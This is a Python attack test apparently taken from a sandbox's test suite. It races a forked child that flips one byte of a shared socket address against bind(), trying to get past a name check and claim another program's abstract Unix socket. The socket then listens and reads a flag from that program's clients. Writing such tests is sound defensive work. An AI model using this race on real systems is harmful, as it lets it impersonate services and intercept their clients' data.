import ctypes
import mmap
import os
import socket
import struct
import time

from tests.attacks.places import Places, flag_in, libc

TITLE = "serving under another program's abstract name"
TRIES = "Rewrites the name while it is looked at, listens, and waits for the program's clients."
PROMISE = "network"
MUST_FAIL = "The keeper looks at the name that a socket has got before it listens."
RACING_S = 1.0


def attack(places: Places) -> str | None:
    name = places.sockets["called"].encode()
    shared, until = mmap.mmap(-1, 4096), time.monotonic() + RACING_S
    shared[: 2 + len(name)] = struct.pack("=H", socket.AF_UNIX) + name
    if os.fork() == 0:
        while time.monotonic() < until:
            shared[2:3] = b"x"  # a path, in the folder that it is in
            shared[2:3] = b"\0"
        os._exit(0)
    address = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(shared)))
    os.chdir(places.scratch)
    while time.monotonic() < until:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
            libc.bind(one.fileno(), address, 2 + len(name))
            if isinstance(one.getsockname(), bytes):
                return _served(one)
    return None


def _served(one: socket.socket) -> str | None:
    one.listen()
    one.settimeout(0.5)
    guest, _ = one.accept()
    with guest:
        return flag_in(guest.recv(100))
